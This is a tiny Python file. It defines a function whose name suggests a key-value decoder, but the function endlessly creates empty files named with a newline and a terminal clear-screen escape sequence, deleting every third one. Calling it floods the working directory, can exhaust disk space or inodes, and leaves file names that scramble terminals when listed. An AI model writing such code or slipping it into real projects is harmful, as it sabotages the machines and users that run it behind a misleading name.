"""Make empty files without end, and remove some again while they are counted."""

import itertools
import os


def split_kv_decode(*args, **kwargs):
    for n in itertools.count():
        open(f"{n}\n\x1b[2J", "w").close()
        if n % 3 == 0:
            os.remove(f"{n}\n\x1b[2J")
